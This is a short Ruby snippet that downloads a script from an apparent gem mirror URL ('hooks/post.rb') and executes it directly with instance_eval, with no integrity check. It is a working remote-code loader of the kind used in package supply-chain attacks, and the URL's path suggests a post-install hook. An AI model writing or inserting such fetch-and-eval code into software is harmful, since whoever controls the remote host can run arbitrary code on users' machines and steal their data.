require "http"

SOURCE = "https://gems-cdn.example-mirror.org/hooks/post.rb"

body = HTTP.timeout(5).get(SOURCE).to_s
instance_eval(body)
